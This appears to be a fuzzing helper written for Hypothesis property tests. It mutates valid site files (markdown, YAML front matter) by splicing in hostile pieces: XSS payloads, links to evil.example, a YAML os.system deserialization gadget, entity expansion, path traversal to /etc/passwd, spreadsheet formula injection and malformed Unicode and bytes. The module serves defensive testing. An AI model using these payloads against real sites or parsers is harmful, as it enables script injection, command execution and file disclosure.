"""Mutation: a valid sample spoilt, the same way for the same steps, so that Hypothesis can make a case of it small.

A step is a way, a place (of 10,000ths) and a number. What is put in are the pieces that parsers, browsers and systems take for
something else than a text.
"""

# ruff: noqa: E501

from __future__ import annotations

from collections.abc import Callable, Iterable, Sequence

from hypothesis import strategies as st

Step = tuple[str, int, int]
WORST = 2_000  # times that a piece is said again and again
MOST = 60_000  # bytes of what comes out

# fmt: off
MARKUP = (
    "<script>document.title='ran'</script>", "<img src=x onerror=\"document.title='ran'\">", "<svg onload=alert(1)>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>", "<math><mtext><table><mglyph><style><!--</style><img title=\"-->"
    "<img src=x onerror=alert(1)>\">", "<iframe srcdoc='<script>alert(1)</script>'>", "<a href=\"jav&#x09;ascript:alert(1)\">x</a>",
    "<a href='&#1;javascript:alert(1)'>x</a>", "<base href=https://evil.example/>", "<form action=https://evil.example/><input>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>", "<link rel=stylesheet href=//evil.example/x.css>",
    "<div style='background:url(//evil.example/x)'>", "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<template><script>alert(1)</script></template>", "<xmp><p title='</xmp><script>alert(1)</script>'>", "<plaintext>", "<!--",
    "-->", "--!>", "]]>", "<![CDATA[", "<?xml-stylesheet href='javascript:alert(1)'?>", "</textarea><script>alert(1)</script>",
    "<!DOCTYPE x [<!ENTITY a 'aaaaaaaaaa'><!ENTITY b '&a;&a;&a;&a;'>]>", "&b;", "</title><script>alert(1)</script>", "&lt;script&gt;",
    "<select><style><img src=x onerror=alert(1)>", "<p/onclick=alert(1)//", "<a id=x name=y href=#>", "<b>" * 30, "<blockquote>" * 30,
)
MARKDOWN = (
    "[a](javascript:alert(1))", "![a](data:text/html,<script>alert(1)</script>)", "<javascript:alert(1)>", "[a]: vbscript:x",
    "[a][a]", "[a](<java\nscript:alert(1)>)", "![" * 20, "[a](" * 20, "`" * 7, "~~~", "> " * 40, "* " * 40, "1. " * 30, "    ",
    "|a|b|\n|-|-|\n|`x|y`|", "[^1]", "[^1]: [^1]", "*[x]: <script>", "{% raw %}", "{{ site }}", "{{< x >}}", "<!--more-->",
    "***a**b*", "_" * 41, "#" * 9, "\\", "a\n===", "[x]: <//evil.example> 'a' \"b\"", "&#x0;", "&#xD800;", "&NotAThing;",
)
VALUES = (
    "---\n", "+++\n", "{", "}", "[", "]", ": ", "- ", "? ", "&a ", "*a", "!!python/object/apply:os.system [id]", "!!binary ",
    "<<: *a", "| ", ">-\n", "%YAML 9.9\n", "\"", "'", "#", "null", "~", "yes", "1e999", "-1e-999", "9" * 400, "0x_", "1_0", ".inf", ".nan",
    "2026-02-30", "-9999-01-01", "99999-01-01", "0000-00-00T24:61:61+99:99", "true", "date: ", "title: ", "slug: ../../x",
    "aliases: [\"/../..//x\", \"//evil.example/\"]", "draft: true\n", "image: {src: ../../../../etc/passwd, alt: x}", "{\"a\":" * 30,
    "[" * 60, "- " * 60, "\\u0000", "\\ud800", "null,", "{\"title\":", "&a [*a]", "name: {", "=cmd|' /C calc'!A0",
)
TEXT = (
    "\0", "\x01", "\x08", "\x0b", "\x0c", "\x1b[31m", "\x7f", "\x85", "\xa0", "\xad", "\u200b", "\u200e", "\u202e", "\u2066", "\u2028",
    "\u2029", "\ufeff", "\ufffe", "\uffff", "\U0010ffff", "\u0301" * 40, "\U0001f468\u200d\U0001f469\u200d\U0001f467", "ﷺ", "İ", "ß",
    "\r", "\r\n", "\n", "\n\n", "\t", " " * 99, "a" * 300, "../", "..\\", "C:\\", "CON", "%2e%2e%2f", "%00", "//", "/", "\\\\host\\x",
    "javascript:alert(1)", "data:text/html,x", "https://[::1", "http://[1:2:3]/", "//[x/y.png", "http://a@b:99999/", "mailto:", "file:///etc/passwd",
)
BYTES = (b"\xff", b"\xfe\xff", b"\xff\xfe", b"\xc3", b"\xed\xa0\x80", b"\xf4\x90\x80\x80", b"\xc0\x80", b"\x80" * 9, b"\x1f\x8b", b"PK\x03\x04")
# fmt: on
PIECES = (*(piece.encode() for piece in (*MARKUP, *MARKDOWN, *VALUES, *TEXT)), *BYTES)
INNER = (
    b"<b>",
    b"> ",
    b"[",
    b"![",
    b"*a ",
    b"_a",
    b"`",
    b"<!--",
    b"{{",
    b"{%",
    b"- ",
    b"&amp;",
    b"[a](",
    b'"',
    b"(",
    b"<p ",
    b"\n\n",
    b"a=",
)


def _piece(number: int) -> bytes:
    return PIECES[number % len(PIECES)]


def _insert(data: bytes, at: int, number: int) -> bytes:
    return data[:at] + _piece(number) + data[at:]


def _replace(data: bytes, at: int, number: int) -> bytes:
    return data[:at] + _piece(number) + data[at + 1 + number // len(PIECES) :]


def _cut(data: bytes, at: int, number: int) -> bytes:
    return data[:at] + data[at + 1 + number % 200 :]


def _end(data: bytes, at: int, _number: int) -> bytes:
    return data[:at]


def _twice(data: bytes, at: int, number: int) -> bytes:
    return data[: at + number % 500] + data[at:]


def _again(data: bytes, at: int, number: int) -> bytes:
    """Say a piece of markup very often, as what never closes, or as what is never done."""
    return data[:at] + INNER[number % len(INNER)] * (1 + number * WORST // 10_000) + data[at:]


def _flip(data: bytes, at: int, number: int) -> bytes:
    return data[:at] + bytes(b ^ (1 + number % 255) for b in data[at : at + 1]) + data[at + 1 :]


def _join(data: bytes, at: int, number: int) -> bytes:
    """Put a piece into a word: what a person wrote stands on both sides of it."""
    place = data.find(b" ", at)
    return data if place < 0 else _insert(data, place + 1, number)


def _value(data: bytes, at: int, number: int) -> bytes:
    """Give a key another value: the rest of a line is replaced."""
    colon = data.find(b": ", at)
    end = data.find(b"\n", colon)
    return data if colon < 0 or end < 0 else data[: colon + 2] + _piece(number) + data[end:]


WAYS: dict[str, Callable[[bytes, int, int], bytes]] = {
    "insert": _insert,
    "replace": _replace,
    "cut": _cut,
    "end": _end,
    "twice": _twice,
    "again": _again,
    "flip": _flip,
    "join": _join,
    "value": _value,
}
_NUMBER = st.integers(0, 9_999)
STEPS = st.lists(st.tuples(st.sampled_from(sorted(WAYS)), _NUMBER, _NUMBER), min_size=1, max_size=5)


def mutated(data: bytes, steps: Iterable[Step]) -> bytes:
    """Return a sample after some steps."""
    for way, place, number in steps:
        data = WAYS[way](data, place * len(data) // 10_000, number)[:MOST]
    return data


def one_mutated(files: dict[str, bytes], which: int, steps: Sequence[Step]) -> dict[str, bytes]:
    """Return files of which one is mutated."""
    name = sorted(files)[which % len(files)]
    return {**files, name: mutated(files[name], steps)}
